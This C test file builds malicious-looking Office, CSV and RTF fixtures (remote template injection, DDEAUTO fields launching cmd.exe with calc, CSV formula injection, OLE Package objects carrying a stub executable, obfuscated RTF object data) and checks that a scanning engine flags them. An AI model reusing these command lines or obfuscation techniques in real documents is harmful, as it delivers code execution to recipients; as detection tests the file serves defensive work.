/* office_scen_docs.c - OOXML relationships, DDE, embedded objects and RTF through the engine. */
#include "config.h"

#include <string.h>

#include "office_scen.h"

/* ---- OOXML relationships, DDE, embedded objects ------------------------- */

void
test_template_injection(void **state)
{
	(void)state;
	static const char *const remote[] = {
		"http://198.51.100.7/t.dotm", "https://example.com/templates/x.dotx",
		"\\\\203.0.113.9\\share\\t.dotm", "file://fileserver/share/t.dotm",
		"HTTP://EXAMPLE.ORG/T.DOTM?x=1",
	};
	for (size_t i = 0; i < G_N_ELEMENTS(remote); i++) {
		char *rels = g_markup_printf_escaped(RELS_HEAD "<Relationship Id=\"rId1\" Type=\"" REL_NS
			"attachedTemplate\" Target=\"%s\" TargetMode=\"External\"/>" RELS_END, remote[i]);
		expect_docx(remote[i], NULL, NULL, rels, "office-template-injection", NULL,
			    A_QUAR, A_REJECT);
		g_free(rels);
	}
	/* The local template of every corporate document. */
	static const char *const local[] = {
		"file:///C:\\Users\\kim\\AppData\\Roaming\\Microsoft\\Templates\\Normal.dotm",
		"C:\\Program Files\\Microsoft Office\\Templates\\Letter.dotx", "Normal.dotm",
	};
	for (size_t i = 0; i < G_N_ELEMENTS(local); i++) {
		char *rels = g_markup_printf_escaped(RELS_HEAD "<Relationship Id=\"rId1\" Type=\"" REL_NS
			"attachedTemplate\" Target=\"%s\" TargetMode=\"External\"/>" RELS_END, local[i]);
		expect_docx(local[i], NULL, NULL, rels, NULL,
			    "office-template-injection,office-external-link", A_ACCEPT, A_TAG);
		g_free(rels);
	}
	check_done();
}

/* webSettings frame to a remote template and an external oleObject. */
void
test_external_links(void **state)
{
	(void)state;
	fx_part parts[] = {
		{"[Content_Types].xml", CT_HEAD "</Types>", 0},
		{"_rels/.rels", RELS_HEAD "<Relationship Id=\"rId1\" Type=\"" REL_NS
		 "officeDocument\" Target=\"word/document.xml\"/>" RELS_END, 0},
		{"word/document.xml", DOC_PLAIN, 0},
		{"word/_rels/webSettings.xml.rels", RELS_HEAD "<Relationship Id=\"rId1\" Type=\"" REL_NS
		 "frame\" Target=\"http://192.0.2.5/frame.dotm\" TargetMode=\"External\"/>" RELS_END, 0},
	};
	expect_zip("frame.docx", parts, G_N_ELEMENTS(parts), "office-template-injection", NULL,
		   A_QUAR, A_REJECT);

	expect_docx("oleobject-link.docx", NULL, RELS_HEAD "<Relationship Id=\"rId5\" Type=\"" REL_NS
		    "oleObject\" Target=\"http://example.com/x.doc\" TargetMode=\"External\"/>" RELS_END,
		    NULL, "office-external-link", "office-template-injection", A_BANNER, A_REJECT);
	/* Hyperlinks only. */
	expect_docx("links.docx",
		    DOC_BODY("<w:p><w:hyperlink r:id=\"rId4\"><w:r><w:t>site</w:t></w:r></w:hyperlink></w:p>"),
		    RELS_HEAD "<Relationship Id=\"rId4\" Type=\"" REL_NS
		    "hyperlink\" Target=\"http://tika.apache.org/\" TargetMode=\"External\"/>" RELS_END,
		    NULL, NULL, "office-external-link,office-template-injection", A_ACCEPT, A_TAG);
	/* Linked (not embedded) picture: INCLUDEPICTURE-style remote image relationship. */
	expect_docx("linked-image.docx", NULL, RELS_HEAD "<Relationship Id=\"rId7\" Type=\"" REL_NS
		    "image\" Target=\"http://example.com/logo.png\" TargetMode=\"External\"/>" RELS_END,
		    NULL, NULL, "office-template-injection", A_ACCEPT, A_REJECT);
	/* External workbook link to a local file. */
	fx_part xl[] = {
		{"[Content_Types].xml", CT_HEAD "</Types>", 0},
		{"_rels/.rels", RELS_HEAD "<Relationship Id=\"rId1\" Type=\"" REL_NS
		 "officeDocument\" Target=\"xl/workbook.xml\"/>" RELS_END, 0},
		{"xl/workbook.xml", XML_HEAD "<workbook " WB_NS "><sheets/></workbook>", 0},
		{"xl/externalLinks/externalLink1.xml", XML_HEAD "<externalLink " WB_NS
		 "><externalBook r:id=\"rId1\"/></externalLink>", 0},
		{"xl/externalLinks/_rels/externalLink1.xml.rels", RELS_HEAD "<Relationship Id=\"rId1\" Type=\"" REL_NS
		 "externalLinkPath\" Target=\"file:///C:\\Budget\\2023.xlsx\" TargetMode=\"External\"/>" RELS_END, 0},
	};
	expect_zip("extbook.xlsx", xl, G_N_ELEMENTS(xl), NULL,
		   "office-external-link,office-dde", A_ACCEPT, A_TAG);
	check_done();
}

void
test_dde_ooxml(void **state)
{
	(void)state;
	/* Split over runs, in a header, in fldSimple. */
	expect_docx("dde-runs.docx", DOC_BODY(
		"<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>"
		"<w:r><w:instrText xml:space=\"preserve\"> DDE</w:instrText></w:r>"
		"<w:r><w:instrText>AUTO \"C:\\\\Programs\\\\Microsoft\\\\Office\\\\MSWord.exe\\\\..\\\\..\\\\..\\\\..\\\\windows\\\\system32\\\\cmd.exe\" \"/k calc\"</w:instrText></w:r>"
		"<w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>"),
		NULL, NULL, "office-dde", NULL, A_QUAR, A_REJECT);
	expect_docx("dde-simple.docx", DOC_BODY(
		"<w:p><w:fldSimple w:instr=\" DDE cmd &quot;/c calc&quot; A1\"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>"),
		NULL, NULL, "office-dde", NULL, A_QUAR, A_REJECT);
	fx_part hdr[] = {
		{"[Content_Types].xml", CT_HEAD "</Types>", 0},
		{"_rels/.rels", RELS_HEAD "<Relationship Id=\"rId1\" Type=\"" REL_NS
		 "officeDocument\" Target=\"word/document.xml\"/>" RELS_END, 0},
		{"word/document.xml", DOC_PLAIN, 0},
		{"word/header1.xml", XML_HEAD "<w:hdr " W_NS "><w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>"
		 "<w:r><w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc.exe\"</w:instrText></w:r>"
		 "<w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p></w:hdr>", 0},
	};
	expect_zip("dde-header.docx", hdr, G_N_ELEMENTS(hdr), "office-dde", NULL, A_QUAR, A_REJECT);
	/* An ordinary PAGE / HYPERLINK field is not DDE. */
	expect_docx("fields.docx", DOC_BODY(
		"<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText> PAGE </w:instrText></w:r>"
		"<w:r><w:fldChar w:fldCharType=\"end\"/></w:r>"
		"<w:fldSimple w:instr=\" HYPERLINK &quot;http://example.com/&quot; \"/></w:p>"),
		NULL, NULL, NULL, "office-dde,office-external-link", A_ACCEPT, A_TAG);

	/* xlsx: ddeLink and a cell formula. */
	fx_part ddel[] = {
		{"[Content_Types].xml", CT_HEAD "</Types>", 0},
		{"_rels/.rels", RELS_HEAD "<Relationship Id=\"rId1\" Type=\"" REL_NS
		 "officeDocument\" Target=\"xl/workbook.xml\"/>" RELS_END, 0},
		{"xl/workbook.xml", XML_HEAD "<workbook " WB_NS "><sheets/></workbook>", 0},
		{"xl/externalLinks/externalLink1.xml", XML_HEAD "<externalLink " WB_NS
		 "><ddeLink ddeService=\"cmd\" ddeTopic=\" /C Calc\"><ddeItems><ddeItem name=\"A0\" advise=\"1\"/>"
		 "</ddeItems></ddeLink></externalLink>", 0},
	};
	expect_zip("ddelink.xlsx", ddel, G_N_ELEMENTS(ddel), "office-dde", NULL, A_QUAR, A_REJECT);
	fx_part cell[] = {
		{"[Content_Types].xml", CT_HEAD "</Types>", 0},
		{"_rels/.rels", RELS_HEAD "<Relationship Id=\"rId1\" Type=\"" REL_NS
		 "officeDocument\" Target=\"xl/workbook.xml\"/>" RELS_END, 0},
		{"xl/workbook.xml", XML_HEAD "<workbook " WB_NS "><sheets/></workbook>", 0},
		{"xl/worksheets/sheet1.xml", XML_HEAD "<worksheet " WB_NS "><sheetData><row r=\"1\"><c r=\"A1\">"
		 "<f>cmd|' /c calc'!A0</f></c></row></sheetData></worksheet>", 0},
	};
	expect_zip("ddecell.xlsx", cell, G_N_ELEMENTS(cell), "office-dde", NULL, A_QUAR, A_REJECT);

	/* xlsb: BrtBeginSupBook (record 360) with sbt 1 = DDE; sbt 0 = workbook. */
	for (int sbt = 1; sbt >= 0; sbt--) {
		GByteArray *bin = g_byte_array_new();
		guint8 rh[3] = {0xE8, 0x02, 0}; /* 360 as a two-byte varint */
		GByteArray *body = g_byte_array_new();
		le16(body, (unsigned)sbt);
		le32(body, 3);
		for (const char *c = "cmd"; *c; c++)
			le16(body, (unsigned char)*c);
		le32(body, 8);
		for (const char *c = "/c calc!"; *c; c++)
			le16(body, (unsigned char)*c);
		rh[2] = (guint8)body->len;
		g_byte_array_append(bin, rh, 3);
		g_byte_array_append(bin, body->data, body->len);
		fx_part xb[] = {
			{"[Content_Types].xml", CT_HEAD "</Types>", 0},
			{"_rels/.rels", RELS_HEAD "<Relationship Id=\"rId1\" Type=\"" REL_NS
			 "officeDocument\" Target=\"xl/workbook.bin\"/>" RELS_END, 0},
			{"xl/workbook.bin", "\x83\x01\x00", 3},
			{"xl/externalLinks/externalLink1.bin", (const char *)bin->data, bin->len},
		};
		if (sbt)
			expect_zip("dde.xlsb", xb, G_N_ELEMENTS(xb), "office-dde", NULL, A_QUAR, A_REJECT);
		else
			expect_zip("extbook.xlsb", xb, G_N_ELEMENTS(xb), NULL, "office-dde", A_ACCEPT, A_TAG);
		g_byte_array_free(body, TRUE);
		g_byte_array_free(bin, TRUE);
	}
	check_done();
}

/* OLE "Package" object (Ole10Native) carrying a file. */
static GByteArray *
ole_package_bin(const char *fname, const void *data, size_t len)
{
	GByteArray *nat = g_byte_array_new();
	GByteArray *b = g_byte_array_new();
	le16(b, 2);
	g_byte_array_append(b, (const guint8 *)fname, (guint)strlen(fname) + 1);
	char *src = g_strconcat("C:\\Users\\u\\", fname, NULL);
	g_byte_array_append(b, (const guint8 *)src, (guint)strlen(src) + 1);
	le32(b, 0x00030000);
	char *tmp = g_strconcat("C:\\Temp\\", fname, NULL);
	le32(b, (uint32_t)strlen(tmp) + 1);
	g_byte_array_append(b, (const guint8 *)tmp, (guint)strlen(tmp) + 1);
	le32(b, (uint32_t)len);
	g_byte_array_append(b, data, (guint)len);
	le32(nat, b->len);
	g_byte_array_append(nat, b->data, b->len);
	g_byte_array_free(b, TRUE);
	g_free(src);
	g_free(tmp);
	return nat;
}

/* A tiny PE image (MZ + PE header) good enough for the type detector. */
static GByteArray *
tiny_pe(void)
{
	GByteArray *p = g_byte_array_sized_new(512);
	g_byte_array_set_size(p, 512);
	memset(p->data, 0, 512);
	p->data[0] = 'M';
	p->data[1] = 'Z';
	p->data[0x3C] = 0x80;
	memcpy(p->data + 0x80, "PE\0\0", 4);
	p->data[0x84] = 0x4C;
	p->data[0x85] = 0x01;
	p->data[0x86] = 1;
	p->data[0x94] = 0xE0;
	p->data[0x96] = 0x02;
	p->data[0x98] = 0x0B;
	p->data[0x99] = 0x01;
	return p;
}

/* oleObject1.bin: a CFB with \1Ole10Native. */
static GByteArray *
ole_object_bin(const char *fname, const void *data, size_t len)
{
	olefix f;
	olefix_begin(&f);
	GByteArray *nat = ole_package_bin(fname, data, len);
	olefix_stream(f.root, "\001Ole10Native", nat->data, nat->len);
	g_byte_array_free(nat, TRUE);
	return olefix_end(&f);
}

void
test_embedded_ooxml(void **state)
{
	(void)state;
	GByteArray *pe = tiny_pe();
	GByteArray *obj = ole_object_bin("invoice.exe", pe->data, pe->len);
	static const char *const hosts[][3] = {
		{"docx", "word/document.xml", "word/embeddings/oleObject1.bin"},
		{"xlsx", "xl/workbook.xml", "xl/embeddings/oleObject1.bin"},
		{"pptx", "ppt/presentation.xml", "ppt/embeddings/oleObject1.bin"},
	};
	for (size_t i = 0; i < G_N_ELEMENTS(hosts); i++) {
		char *root = g_strdup_printf(RELS_HEAD "<Relationship Id=\"rId1\" Type=\"" REL_NS
					     "officeDocument\" Target=\"%s\"/>" RELS_END, hosts[i][1]);
		fx_part parts[] = {
			{"[Content_Types].xml", CT_HEAD "</Types>", 0},
			{"_rels/.rels", root, 0},
			{hosts[i][1], XML_HEAD "<root/>", 0},
			{hosts[i][2], (const char *)obj->data, obj->len},
		};
		char *name = g_strdup_printf("objects.%s", hosts[i][0]);
		expect_zip(name, parts, G_N_ELEMENTS(parts), "office-embedded-object,executable",
			   NULL, A_REJECT, A_REJECT);
		g_free(name);
		g_free(root);
	}
	/* A chart's data workbook is no embedded object. */
	fx_part chart[] = {
		{"[Content_Types].xml", CT_HEAD "</Types>", 0},
		{"_rels/.rels", RELS_HEAD "<Relationship Id=\"rId1\" Type=\"" REL_NS
		 "officeDocument\" Target=\"word/document.xml\"/>" RELS_END, 0},
		{"word/document.xml", DOC_PLAIN, 0},
		{"word/_rels/document.xml.rels", RELS_HEAD "<Relationship Id=\"rId3\" Type=\"" REL_NS
		 "chart\" Target=\"charts/chart1.xml\"/>" RELS_END, 0},
		{"word/charts/chart1.xml", XML_HEAD "<c:chartSpace xmlns:c=\"x\"/>", 0},
		{"word/charts/_rels/chart1.xml.rels", RELS_HEAD "<Relationship Id=\"rId1\" Type=\"" REL_NS
		 "package\" Target=\"../embeddings/Microsoft_Excel_Worksheet.xlsx\"/>" RELS_END, 0},
		{"word/embeddings/Microsoft_Excel_Worksheet.xlsx", "PK\003\004not really", 0},
	};
	expect_zip("chart.docx", chart, G_N_ELEMENTS(chart), NULL, "office-embedded-object",
		   A_ACCEPT, A_TAG);
	g_byte_array_free(obj, TRUE);
	g_byte_array_free(pe, TRUE);
	check_done();
}

/* ---- RTF ------------------------------------------------------------------ */

/* Hex of bytes, lower or upper case, with a line break every `wrap` digits. */
static void
hex_append(GString *s, const guint8 *p, size_t n, bool upper, size_t wrap)
{
	for (size_t i = 0; i < n; i++) {
		g_string_append_printf(s, upper ? "%02X" : "%02x", p[i]);
		if (wrap && (i * 2 + 2) % wrap == 0)
			g_string_append(s, "\r\n");
	}
}

/* OLE1 embedded-object header (OLEVersion, FormatID 2, class, topic, item, size) + data. */
static GByteArray *
ole1_embedded(const char *cls, const void *data, size_t len)
{
	GByteArray *b = g_byte_array_new();
	le32(b, 0x00000501);
	le32(b, 2);
	le32(b, (uint32_t)strlen(cls) + 1);
	g_byte_array_append(b, (const guint8 *)cls, (guint)strlen(cls) + 1);
	le32(b, 0);
	le32(b, 0);
	le32(b, (uint32_t)len);
	g_byte_array_append(b, data, (guint)len);
	return b;
}

/* An RTF with one Package object holding `fname`. */
static char *
rtf_package(const char *fname, const void *data, size_t len, int style)
{
	GByteArray *nat = ole_package_bin(fname, data, len);
	/* OLE1 Package: the native data is the Ole10Native body without its size. */
	GByteArray *o1 = ole1_embedded("Package", nat->data + 4, nat->len - 4);
	GString *s = g_string_new("{\\rtf1\\ansi\\deff0{\\fonttbl{\\f0 Arial;}}\r\n"
				  "\\pard Please see the attachment.\\par\r\n");
	if (style == 0) {
		g_string_append(s, "{\\object\\objemb{\\*\\objclass Package}\\objw1\\objh1{\\*\\objdata ");
		hex_append(s, o1->data, o1->len, false, 128);
	} else {
		/* Obfuscated: \objupdate, junk groups, upper case, whitespace. */
		g_string_append(s, "{\\object\\objemb\\objupdate{\\*\\objclass Package}{\\*\\objdata \r\n");
		GString *h = g_string_new(NULL);
		hex_append(h, o1->data, o1->len, true, 0);
		for (size_t i = 0; i < h->len; i++) {
			g_string_append_c(s, h->str[i]);
			if (i % 37 == 5)
				g_string_append(s, "{\\*\\pnseclvl9 junk}");
			if (i % 53 == 7)
				g_string_append(s, " \t\r\n");
		}
		g_string_free(h, TRUE);
	}
	g_string_append(s, "}}\r\n\\par}\r\n");
	g_byte_array_free(o1, TRUE);
	g_byte_array_free(nat, TRUE);
	return g_string_free(s, FALSE);
}

void
test_rtf(void **state)
{
	(void)state;
	GByteArray *pe = tiny_pe();
	for (int style = 0; style < 2; style++) {
		char *r = rtf_package("clam.exe", pe->data, pe->len, style);
		expect_raw(style ? "obf.rtf" : "pkg.rtf", r, strlen(r), "rtf-object,executable",
			   NULL, A_REJECT, A_REJECT);
		g_free(r);
	}
	const char js[] = "WScript.Echo(\"hi\");\r\n";
	char *r = rtf_package("readme.js", js, sizeof js - 1, 0);
	expect_raw("js.rtf", r, strlen(r), "rtf-object,script", NULL, A_REJECT, A_REJECT);
	g_free(r);
	/* RTF renamed .doc. */
	r = rtf_package("clam.exe", pe->data, pe->len, 0);
	expect_raw("letter.doc", r, strlen(r), "rtf-object,executable", NULL, A_REJECT, A_REJECT);
	g_free(r);

	/* Equation.3 (CVE-2017-11882 style), no payload. */
	GByteArray *eq = ole1_embedded("Equation.3", "\x1c\x00\x00\x00\x02\x00", 6);
	GString *s = g_string_new("{\\rtf1{\\object\\objemb\\objupdate{\\*\\objclass Equation.3}{\\*\\objdata ");
	hex_append(s, eq->data, eq->len, false, 0);
	g_string_append(s, "}}}");
	expect_raw("eq.rtf", s->str, s->len, "rtf-object", NULL, A_QUAR, A_REJECT);
	g_string_free(s, TRUE);
	g_byte_array_free(eq, TRUE);

	/* OLE2Link class. */
	GByteArray *ln = ole1_embedded("OLE2Link", "\0\0\0\0", 4);
	s = g_string_new("{\\rtf1{\\object\\objautlink{\\*\\objclass OLE2Link}{\\*\\objdata ");
	hex_append(s, ln->data, ln->len, false, 0);
	g_string_append(s, "}}}");
	expect_raw("link.rtf", s->str, s->len, "rtf-object", NULL, A_QUAR, A_REJECT);
	g_string_free(s, TRUE);
	g_byte_array_free(ln, TRUE);

	/* Plain RTF: nothing. */
	const char *plain = "{\\rtf1\\ansi{\\fonttbl{\\f0 Times;}}\\pard Hello {\\b world}\\par}";
	expect_raw("plain.rtf", plain, strlen(plain), NULL, "rtf-object,office-dde", A_ACCEPT, A_TAG);

	/* DDEAUTO in a field. */
	const char *dde = "{\\rtf1\\ansi\\pard {\\field{\\*\\fldinst {\\rtlch DDEAUTO c:\\\\windows\\\\"
		"system32\\\\cmd.exe \"/k calc.exe\"}}{\\fldrslt {x}}}\\par}";
	expect_raw("dde.rtf", dde, strlen(dde), "office-dde", NULL, A_QUAR, A_REJECT);
	/* Split over groups and hex escapes: D\'44E... */
	const char *dde2 = "{\\rtf1\\ansi\\pard {\\field{\\*\\fldinst {D}{\\'44}{EAUTO \"cmd\" \"/c calc\"}}"
		"{\\fldrslt x}}\\par}";
	expect_raw("dde2.rtf", dde2, strlen(dde2), "office-dde", NULL, A_QUAR, A_REJECT);
	/* Text about DDE outside a field, and a HYPERLINK field: nothing. */
	const char *talk = "{\\rtf1\\ansi\\pard The DDEAUTO field is described here. "
		"{\\field{\\*\\fldinst HYPERLINK \"http://example.com\"}{\\fldrslt link}}\\par}";
	expect_raw("talk.rtf", talk, strlen(talk), NULL, "office-dde,rtf-object", A_ACCEPT, A_TAG);
	g_byte_array_free(pe, TRUE);
	check_done();
}

/* DDE in a .doc WordDocument stream (8-bit and UTF-16 text). */
void
test_dde_doc(void **state)
{
	(void)state;
	for (int wide = 0; wide < 2; wide++) {
		GByteArray *wd = g_byte_array_new();
		guint8 fib[0x200] = {0xEC, 0xA5, 0xC1, 0x00};
		g_byte_array_append(wd, fib, sizeof fib);
		const char *txt = "\x13 DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc.exe\" \x14x\x15";
		for (const char *p = txt; *p; p++) {
			g_byte_array_append(wd, (const guint8 *)p, 1);
			if (wide)
				g_byte_array_append(wd, (const guint8 *)"", 1);
		}
		olefix f;
		olefix_begin(&f);
		olefix_stream(f.root, "WordDocument", wd->data, wd->len);
		olefix_stream(f.root, "1Table", fib, 64);
		GByteArray *doc = olefix_end(&f);
		expect_raw(wide ? "dde16.doc" : "dde8.doc", doc->data, doc->len, "office-dde",
			   NULL, A_QUAR, A_REJECT);
		g_byte_array_free(doc, TRUE);
		g_byte_array_free(wd, TRUE);
	}
	check_done();
}

/* DDE formulas in a CSV (oletools dde-in-csv) and Word 2003 XML. */
void
test_dde_text(void **state)
{
	(void)state;
	const char *csv = "Name,Amount\r\nA,1\r\n=cmd|' /C calc'!A0,2\r\n";
	expect_raw("export.csv", csv, strlen(csv), "office-dde", NULL, A_QUAR, A_REJECT);
	const char *csv2 = "a,b\r\n\"=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''\",x\r\n";
	expect_raw("export2.csv", csv2, strlen(csv2), "office-dde", NULL, A_QUAR, A_REJECT);
	const char *obf = "x\r\n-2+3+cmd|' /C calc'!A0\r\n";
	expect_raw("obf.csv", obf, strlen(obf), "office-dde", NULL, A_QUAR, A_REJECT);
	const char *plain = "Name,Total\r\nA,=SUM(B1:B3)\r\npipe|char,3\r\n- note | really!\r\n";
	expect_raw("plain.csv", plain, strlen(plain), NULL, "office-dde", A_ACCEPT, A_TAG);
	const char *xml = "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\r\n"
		"<?mso-application progid=\"Word.Document\"?>\r\n"
		"<w:wordDocument xmlns:w=\"http://schemas.microsoft.com/office/word/2003/wordml\"><w:body><w:p>"
		"<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText> DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "
		"\"/k calc.exe\"</w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p></w:body></w:wordDocument>\r\n";
	expect_raw("dde-2003.xml", xml, strlen(xml), "office-dde", NULL, A_QUAR, A_REJECT);
	check_done();
}
